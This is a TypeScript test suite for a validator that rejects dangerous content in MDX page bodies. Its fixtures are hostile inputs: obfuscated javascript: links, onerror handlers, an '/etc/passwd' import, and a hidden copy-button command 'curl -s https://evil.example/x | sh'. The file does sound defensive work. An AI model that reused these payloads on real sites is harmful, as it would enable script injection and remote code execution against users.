// The MDX body check on its own: what a Notes section may hold, found in the parsed tree (not by pattern), in linear time.
import assert from 'node:assert/strict';
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'node:test';
import { fileURLToPath } from 'node:url';
import { bodyIssues, INERT_DATA_ATTRIBUTES, MAX_BODY_BYTES, mdxIssues, urlScheme } from './mdx-body.ts';

const panics = fileURLToPath(new URL('../../content/panics/', import.meta.url));
const FRONT = '---\nid: x\n---\n\n';
/** The body after a 4-line frontmatter: its first line is line 5 of the file. */
const issues = (body: string) => bodyIssues(FRONT + body, FRONT.length);

test('the real panic bodies pass', () => {
  const files = readdirSync(panics).filter((f) => f.endsWith('.mdx'));
  assert.ok(files.length > 0);
  for (const f of files) assert.deepEqual(bodyIssues(readFileSync(join(panics, f), 'utf8')), [], f);
});

test('import and export are refused at their line', () => {
  const [imp, ...rest] = issues("Some prose.\n\nimport secret from '/etc/passwd?raw'\n\n{secret}\n");
  assert.equal(imp!.line, 7);
  assert.match(
    imp!.message,
    /^must not import modules \(import secret from '\/etc\/passwd\?raw'\).*the Notes section is prose/,
  );
  assert.equal(rest.length, 1, 'the expression that shows it is refused too');
  assert.match(rest[0]!.message, /JavaScript expression \(\{secret\}\)/);
  const [exp] = issues('export const x = 1\n');
  assert.equal(exp!.line, 5);
  assert.match(exp!.message, /^must not export \(export const x = 1\)/);
});

test('code that only looks like an import is fine: the check reads the MDX tree', () => {
  assert.deepEqual(
    issues(
      "```js\nimport x from '/etc/passwd?raw'\n<script>alert(1)</script>\n```\n\nInline `<script>` and `import x from 'y'` are code.\n",
    ),
    [],
  );
  assert.deepEqual(issues('{/* a comment */}\n\nText with an escaped \\{brace}.\n'), []);
});

test('elements that run, load or restyle are refused by name; prose HTML passes', () => {
  for (const tag of ['script', 'iframe', 'object', 'embed', 'style', 'link', 'meta', 'base', 'form', 'svg']) {
    const [e, ...rest] = issues(`Text.\n\n<${tag}></${tag}>\n`);
    assert.equal(rest.length, 0, tag);
    assert.equal(e!.line, 7, tag);
    assert.match(e!.message, new RegExp(`^must not hold a <${tag}> element`), tag);
  }
  const [inline] = issues('Text <script>alert(1)</script> inline.\n');
  assert.match(inline!.message, /<script>/);
  const [component] = issues('<Script />\n');
  assert.match(component!.message, /component <Script>/);
  assert.deepEqual(
    issues(
      '<details>\n<summary>More</summary>\n\n<kbd>Ctrl</kbd> and <a href="/frames/">frames</a> <img src="/x.png" alt="" />\n\n</details>\n',
    ),
    [],
  );
});

test('event handlers, expressions and style in attributes are refused', () => {
  assert.match(issues('<div onClick="x()">hi</div>\n')[0]!.message, /event handler `onClick`/);
  assert.match(issues('<img src="/a.png" onerror="alert(1)" />\n')[0]!.message, /event handler `onerror`/);
  assert.match(issues('<div {...props}>hi</div>\n')[0]!.message, /attribute expression/);
  assert.match(issues('<a href={evil}>x</a>\n')[0]!.message, /expression as the value of `href`/);
  assert.match(issues('<span style="position:fixed">x</span>\n')[0]!.message, /`style` attribute/);
  assert.match(issues('<span id="spread_oracle-L43">x</span>\n')[0]!.message, /`id` attribute; ids belong to the page/);
  assert.match(issues('<img src="/a.png" alt="" name="search" />\n')[0]!.message, /`name` attribute/);
});

test('data-* attributes are refused (the site script acts on them) unless named inert', () => {
  for (const body of [
    '<a href="https://evil.example/landing" data-moved-to="">more</a>\n',
    '<code data-copy="curl -s https://evil.example/x | sh">cargo build --release</code>\n',
    '<a href="https://evil.example/#spread_oracle-L43" data-copy-link>x</a>\n',
    '<span DATA-COPY="x">y</span>\n',
    '<span dataCopy="x">y</span>\n',
    '<div data-anything-new="x">y</div>\n',
  ]) {
    const found = issues(body);
    assert.equal(found.length, 1, body);
    assert.equal(found[0]!.line, 5, body);
    assert.match(
      found[0]!.message,
      /^must not give <(a|code|span|div)> a `[^`]+` attribute; data-\* attributes are the site's script hooks, and the prose may carry only `data-pagefind-ignore`/,
      body,
    );
  }
  assert.deepEqual(
    issues('<div data-pagefind-ignore>A long example log.</div>\n\n<object data="/x.bin"></object>\n').map((i) =>
      i.message.slice(0, 30),
    ),
    ['must not hold a <object> eleme'],
  );
  for (const inert of INERT_DATA_ATTRIBUTES) assert.deepEqual(issues(`<span ${inert}="">x</span>\n`), [], inert);
});

test('javascript: and other non-web links are refused, however they are spelt', () => {
  for (const body of [
    '[x](javascript:alert(1))\n',
    '[x](JaVaScript:alert(1))\n',
    '[x][r]\n\n[r]: javascript:alert(1)\n',
    '<a href="java&#x09;script:alert(1)">x</a>\n',
    '<a href=" javascript:alert(1)">x</a>\n',
    '[x](&#106;avascript:alert(1))\n',
    '<a href="javascript&colon;alert(1)">x</a>\n',
    '<a HREF="javascript:alert(1)">x</a>\n',
    '[x](data:text/html,<script>alert(1)</script>)\n',
    '[x](vbscript:msgbox)\n',
  ]) {
    const found = issues(body);
    assert.equal(found.length, 1, body);
    assert.match(found[0]!.message, /must not (link to|give <a>) .*(javascript|data|vbscript): URL/, body);
  }
  assert.deepEqual(
    issues('[a](https://example.com) [b](/frames/#x) [c](mailto:a@b.c) [d](#top) [e](x:y/z)\n').length,
    1,
    'only x: is refused',
  );
});

test('images and sources from another origin are refused (the site loads nothing from elsewhere)', () => {
  assert.match(
    issues('![x](https://tracker.example/p.gif)\n')[0]!.message,
    /image from https:\/\/tracker.example\/p.gif, which loads from outside the site/,
  );
  assert.match(issues('<img src="//evil.example/x.png" alt="" />\n')[0]!.message, /`src` set to \/\/evil.example/);
  assert.deepEqual(issues('![x](/img/x.png) ![y](data:image/png;base64,AAAA)\n'), []);
});

test("a body that is not MDX says so at the parser's line", () => {
  const [e] = issues('Text.\n\n<b>\n');
  assert.equal(e!.line, 7);
  assert.match(e!.message, /^is not valid MDX: /);
});

test('urlScheme reads a scheme the way a browser does', () => {
  assert.equal(urlScheme('javascript:x'), 'javascript');
  assert.equal(urlScheme('\u0001 java\nscript:x'), 'javascript');
  assert.equal(urlScheme('/a:b'), undefined);
  assert.equal(urlScheme('a/b:c'), undefined);
  assert.equal(urlScheme('#x:y'), undefined);
});

test('a body over the size cap is refused before it is parsed (deep nesting is quadratic in the parser)', () => {
  const n = MAX_BODY_BYTES; // far more nesting than the cap allows
  const [e, ...rest] = issues('<div>'.repeat(n) + 'x' + '</div>'.repeat(n));
  assert.equal(rest.length, 0);
  assert.equal(e!.line, 5);
  assert.match(e!.message, /^is 352\.0 KiB; the Notes section may be at most 32 KiB/);
});

test('the check runs in linear time on adversarial bodies of shapes the parser handles linearly', () => {
  const shapes: [string, (n: number) => string][] = [
    ['nested brackets', (n) => '['.repeat(n) + 'x' + '](javascript:a)'.repeat(n)],
    ['emphasis runs', (n) => '*a _b '.repeat(n)],
    ['many links', (n) => '[x](javascript:a) '.repeat(n)],
    ['comment expressions', (n) => `{${'/* c */'.repeat(n)}}`],
  ];
  /** Milliseconds of this process's CPU (not of the clock: other work on a busy machine does not count), fastest of three. */
  const fastest = (body: string) => {
    let best = Infinity;
    for (let i = 0; i < 3; i++) {
      const t0 = process.cpuUsage();
      const found = mdxIssues(FRONT + body);
      const used = process.cpuUsage(t0);
      assert.ok(found.length > 0 || !body.includes('javascript'));
      best = Math.min(best, (used.user + used.system) / 1000);
    }
    return best;
  };
  for (const [name, make] of shapes) {
    const small = make(4_000);
    const large = make(16_000);
    fastest(small); // warm-up
    // Four times the input: linear is ~4×, quadratic ~16×. A pause of the machine can spoil one measurement, never
    // three in a row; a quadratic check fails all three. Below two milliseconds the clock decides, not the algorithm.
    let report = '';
    let passed = false;
    for (let attempt = 0; attempt < 3 && !passed; attempt++) {
      const t1 = Math.max(fastest(small), 2);
      const t2 = fastest(large);
      passed = t2 / t1 < 10;
      report += ` ${t1.toFixed(1)} → ${t2.toFixed(1)} ms;`;
    }
    assert.ok(passed, `${name}, 4× the input:${report}`);
  }
});
